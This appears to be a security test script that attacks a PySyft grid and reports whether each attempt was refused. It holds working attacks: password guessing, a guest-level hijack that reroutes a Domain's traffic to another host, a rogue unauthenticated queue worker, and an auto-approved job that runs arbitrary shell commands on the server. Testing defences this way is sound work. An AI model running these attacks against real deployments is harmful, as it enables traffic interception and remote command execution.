# Copyright (c) OpenMined and contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on a grid, tried with the means an attacker has; prints as JSON on the last line how far they came.

python attacks.py login  URL EMAIL PASSWORD
python attacks.py hijack NETWORK_URL PEER_NAME OTHER_URL
python attacks.py rogue  QUEUE_URL plain|stranger DOMAIN_PUBLIC_KEY
python attacks.py job    URL IDENTITY_FILE COMMANDS_AS_JSON_LIST
"""

from __future__ import annotations

import json
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any


def _try(attack: Callable[[], Any]) -> dict[str, Any]:
    """Whether upstream refused, and what it said; upstream returns some errors and raises others."""
    from syft.service.response import SyftError

    try:
        answer = attack()
    except Exception as error:
        return {"refused": True, "said": str(error)[:200]}
    return {"refused": isinstance(answer, SyftError) or answer is None, "said": str(answer)[:200]}


def login(url: str, email: str, password: str) -> dict[str, Any]:
    """Log in with a password that somebody might guess."""
    import syft as sy

    return _try(lambda: sy.login(url=url, email=email, password=password, cache=False))


def hijack(url: str, name: str, other: str) -> dict[str, Any]:
    """As a guest, send the traffic of a Domain to another address (fault 7: a stock server lets everybody)."""
    import syft as sy
    from syft.service.network.routes import HTTPServerRoute
    from syft.service.network.server_peer import ServerPeerUpdate

    network = sy.login_as_guest(url=url).api.services.network
    peer = next(peer for peer in network.get_all_peers() if peer.name == name)
    evil = HTTPServerRoute(host_or_ip=other, port=80, priority=1)
    update = ServerPeerUpdate(id=peer.id, server_routes=[evil])
    own = {"peer_verify_key": peer.verify_key, "route": peer.server_routes[0]}
    return {
        "update_peer": _try(lambda: network.update_peer(peer_update=update)),
        "add_route": _try(lambda: network.add_route(peer_verify_key=peer.verify_key, route=evil)),
        "delete_route": _try(lambda: network.delete_route(**own)),
        "update_route_priority": _try(lambda: network.update_route_priority(**own, priority=9)),
    }


def rogue(url: str, how: str, domain_key: str) -> dict[str, int]:
    """Stand in the queue as a Worker that the Domain does not know; count what it sends."""
    import zmq

    context = zmq.Context()
    socket = context.socket(zmq.DEALER)
    socket.linger = 0
    if how == "stranger":
        socket.curve_publickey, socket.curve_secretkey = zmq.curve_keypair()
        socket.curve_serverkey = domain_key.encode()
    socket.connect(url)
    # READY, as upstream's consumers send it (S/service/queue/zmq_consumer.py).
    socket.send_multipart([b"", b"MDPW01", b"0x01", b"default-pool", b"0" * 32, b"{}"], zmq.NOBLOCK)
    messages = 0
    while socket.poll(6000):
        socket.recv_multipart()
        messages += 1
    context.destroy(linger=0)
    return {"messages": messages}


def job(url: str, identity_file: str, commands: str) -> dict[str, dict[str, Any]]:
    """Have an owner approve a job that runs commands, each with how it ended; the worst that a job can be."""
    import syft as sy
    from syft.service.policy.policy import MixedInputPolicy, OutputPolicyExecuteCount

    identity = json.loads(Path(identity_file).read_text())
    client = sy.login(url=url, email=identity["root_email"], password=identity["root_password"], cache=False)

    @sy.syft_function(
        input_policy=MixedInputPolicy(commands=str, client=client), output_policy=OutputPolicyExecuteCount(limit=10)
    )
    def from_inside(commands):  # noqa: ANN001, ANN202 - syft sends the source as it stands
        import json
        import subprocess

        found = {}
        for command in json.loads(commands):
            done = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=False)
            found[command] = {"code": done.returncode, "said": (done.stdout + done.stderr)[:300]}
        return json.dumps(found)

    client.code.request_code_execution(from_inside).approve(disable_warnings=True)
    running = client.code.from_inside(commands=commands, blocking=False)
    end = time.monotonic() + 180
    while running.status.value not in ("completed", "errored", "interrupted") and time.monotonic() < end:
        time.sleep(1)
        running = client.jobs.get(running.id)
    if running.status.value != "completed":
        raise SystemExit(f"the job is {running.status.value}: {running.logs(stderr=True, stdout=True, _print=False)}")
    return json.loads(running.result.get())


if __name__ == "__main__":
    verb = {"login": login, "hijack": hijack, "rogue": rogue, "job": job}[sys.argv[1]]
    print("\n" + json.dumps(verb(*sys.argv[2:])))
